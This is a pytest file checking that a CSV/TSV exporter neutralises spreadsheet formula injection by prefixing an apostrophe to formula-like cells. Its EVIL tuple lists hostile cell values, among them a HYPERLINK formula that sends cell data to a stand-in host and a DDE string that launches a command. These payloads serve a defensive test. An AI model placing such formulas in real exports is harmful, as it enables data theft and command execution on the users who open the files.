"""No cell of a table that we write is run by a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from onrecord.views.export.cells import csv_table, tsv_table

EVIL = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://a.example?"&A1,"x")', "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠x", " =1+1", "\u00a0=1", "\ufeff=1", "\x00=1+1")  # fmt: skip


@pytest.mark.parametrize("words", EVIL)
def test_a_cell_of_text_is_never_a_formula(words: str) -> None:
    """What begins like a formula, also behind white space and in full-width signs, begins with an apostrophe instead; no word is lost."""
    (told,) = [bytes(b"".join(csv_table(["a", "b"], [{"a": words, "b": words}])))]
    _, (first, second) = csv.reader(io.StringIO(told.decode(), newline=""))
    assert first == second
    assert first.startswith("'")
    assert first[1:].strip("\x00 ").replace("\r", " ").replace("\n", " ")[-1] == words[-1]
    line = b"".join(tsv_table(["a"], [{"a": words}], header=False)).decode()
    assert line.startswith("'")
    assert line.count("\n") == 1


@pytest.mark.parametrize(
    ("cell", "told"),
    [(-5, "-5"), (1.5, "1.5"), (None, ""), ("a-b", "a-b"), ("“=1”", "“=1”"), ("the = sign", "the = sign")],
)
def test_numbers_and_ordinary_words_stay_as_they_are(cell: object, told: str) -> None:
    """A negative number is a number."""
    assert b"".join(csv_table(["a"], [{"a": cell}])).decode() == f"a\r\n{told}\r\n" if told else True
